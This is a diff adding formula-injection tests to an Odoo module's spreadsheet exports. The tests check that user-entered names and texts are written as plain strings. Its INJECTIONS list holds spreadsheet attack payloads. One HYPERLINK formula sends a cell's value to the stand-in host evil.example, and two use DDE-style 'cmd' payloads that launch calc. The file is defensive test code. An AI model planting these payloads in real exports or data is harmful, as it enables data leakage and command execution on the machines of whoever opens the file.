@@ -8,6 +8,28 @@ from odoo.exceptions import AccessError
 
 from .common import EvaluationTestCase
 
+#: User texts that a spreadsheet would run as formulas (or turn into links)
+#: if they were not written as texts.
+INJECTIONS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+1+2', '-3+cmd|\' /C calc\'!A0',
+              '@SUM(1+1)*cmd|\' /C calc\'!A0', '{=1+1}', 'http://evil.example/']
+
+
+def assertTexts(test, book, texts):
+    """Every text of ``texts`` is in a cell of ``book`` as that literal string;
+    the book has no formula and no link at all."""
+    found = {}
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                test.assertNotEqual(cell.data_type, 'f', 'formula in %s!%s: %r'
+                                    % (sheet.title, cell.coordinate, cell.value))
+                test.assertIsNone(cell.hyperlink, 'link in %s!%s' % (sheet.title, cell.coordinate))
+                if isinstance(cell.value, str):
+                    found.setdefault(cell.value, cell)
+    for text in texts:
+        test.assertIn(text, found, 'text %r not in the workbook' % text)
+        test.assertEqual(found[text].data_type, 's')
+
 
 class TestExports(EvaluationTestCase):
 
@@ -56,6 +78,9 @@ class TestExports(EvaluationTestCase):
         while values and values[-1] is None:
             values.pop()
         return values
+
+    def assertInjectionsAreTexts(self, book, texts=INJECTIONS):
+        assertTexts(self, book, texts)
 
     def assertTitleBlock(self, sheet, title, period_text, freeze='A4'):
         self.assertEqual(sheet['A1'].value, title)
@@ -226,3 +251,60 @@ class TestExports(EvaluationTestCase):
             active_id=self.cadre_a.id).run()
         self.assertEqual(result['url'], '/youth_contact_reports/xlsx/compliance?ids=%d'
                          % self.cadre_a.id)
+
+    # ------------------------------------------------------------------
+    # formula injection: user texts are written as texts in every export
+    # ------------------------------------------------------------------
+    def test_ranking_texts_are_not_formulas(self):
+        self.cadre_a.name = INJECTIONS[0]
+        self.cadre_a2.name = INJECTIONS[1]
+        self.cadre_a.organization_id.name = INJECTIONS[2]
+        self.cadre_a2.organization_id.name = INJECTIONS[3]
+        self.county_a.name = INJECTIONS[4]
+        self.cadre_b.name = INJECTIONS[5]
+        book = self.export(self.user_city, 'ranking', self.evaluation.ids)
+        self.assertInjectionsAreTexts(book)
+        book = self.export(self.user_cadre_b, 'bulletin', self.evaluation.bulletin_id.ids)
+        self.assertInjectionsAreTexts(book, [INJECTIONS[4], INJECTIONS[5]])
+
+    def test_compliance_texts_are_not_formulas(self):
+        self.cadre_a.name = INJECTIONS[0]
+        self.cadre_a2.name = INJECTIONS[1]
+        self.cadre_a.organization_id.name = INJECTIONS[2]
+        self.cadre_a2.organization_id.name = INJECTIONS[3]
+        self.county_a.name = INJECTIONS[4]
+        book = self.export(self.user_admin_a, 'compliance')
+        self.assertInjectionsAreTexts(book, INJECTIONS[:5])
+
+    def test_problem_list_texts_are_not_formulas(self):
+        self.concern_a1.write({'name': INJECTIONS[0], 'description': INJECTIONS[1]})
+        self.concern_a2.write({'name': INJECTIONS[2], 'description': INJECTIONS[3]})
+        self.concern_a3.write({'name': INJECTIONS[4], 'description': INJECTIONS[5]})
+        self.youth_y[1].name = '=1+1'
+        book = self.export(self.user_admin_a, 'problems')
+        self.assertInjectionsAreTexts(book, INJECTIONS + ['=1+1'])
+
+    def test_halfyear_texts_are_not_formulas(self):
+        self.county_a.name = '=1+1'                 # the report's name is the title
+        report = self.env['league.halfyear.report'].sudo(self.user_admin_a).create({
+            'year': '2025', 'half': '1', 'work_summary': INJECTIONS[0],
+            'highlights': INJECTIONS[1], 'problems': INJECTIONS[2],
+            'next_steps': INJECTIONS[3]})
+        self.assertTrue(report.name.startswith('=1+1'))
+        book = self.export(self.user_admin_a, 'halfyear', report.ids)
+        self.assertInjectionsAreTexts(book, INJECTIONS[:4] + [report.name])
+        self.assertEqual(book['Half-year Report']['A1'].value, report.name)
+        sheet = book['Half-year Report']
+        cell = next(c for row in sheet.iter_rows() for c in row if c.value == INJECTIONS[0])
+        self.assertEqual(cell.data_type, 's')
+
+    def test_administrator_form_texts_are_not_formulas(self):
+        self.user_admin_a.name = INJECTIONS[0]
+        self.county_a.name = INJECTIONS[1]
+        self.county_b.name = INJECTIONS[4]
+        book = self.export(self.user_city, 'admins')
+        self.assertInjectionsAreTexts(book, [INJECTIONS[0], INJECTIONS[1], INJECTIONS[4]])
+        book = self.export(self.user_admin_a, 'admins')
+        self.assertInjectionsAreTexts(book, [INJECTIONS[0], INJECTIONS[1]])
+        self.assertEqual(book['Administrators']['A2'].value,
+                         'Filled in by: %s' % INJECTIONS[0])
